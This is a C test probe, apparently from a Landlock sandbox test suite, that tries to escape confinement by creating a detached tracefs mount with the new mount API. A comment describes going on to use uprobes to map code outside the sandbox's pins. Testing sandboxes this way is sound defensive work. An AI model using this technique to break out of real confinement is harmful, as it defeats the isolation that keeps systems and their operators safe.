/* SPDX-License-Identifier: ISC */
/*
 * escape_mount (attack mount-new): a root tree mounts a file system of
 * its own with the new mount API, detached from every path (blind round
 * 9: fsopen("tracefs"), fsconfig(CREATE), fsmount: Landlock forbids
 * changes to the mount tree, not a mount outside it).  Through tracefs a
 * root tree defines uprobes; a uprobe makes the kernel map its
 * trampoline, with a `syscall` in it, outside every pin.  The tree may
 * make no mount at all: the effect is the mount made (mkdir MARK).
 *
 *   escape_mount MARK      exit 0 MARK made, 3 refused
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NR_FSOPEN 430
#define NR_FSCONFIG 431
#define NR_FSMOUNT 432
#define FSCONFIG_CMD_CREATE 6

int
main(int argc, char **argv)
{
	long fs, mnt;

	if (argc != 2) {
		fprintf(stderr, "usage: escape_mount MARK\n");
		return 2;
	}
	if ((fs = syscall(NR_FSOPEN, "tracefs", 0)) == -1) {
		printf("fsopen: %s\n", strerror(errno));
		return 3;
	}
	if (syscall(NR_FSCONFIG, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) == -1) {
		printf("fsconfig: %s\n", strerror(errno));
		return 3;
	}
	if ((mnt = syscall(NR_FSMOUNT, fs, 0, 0)) == -1) {
		printf("fsmount: %s\n", strerror(errno));
		return 3;
	}
	printf("a tracefs of its own, detached: descriptor %ld\n", mnt);
	return mkdir(argv[1], 0755) == 0 ? 0 : 3;
}
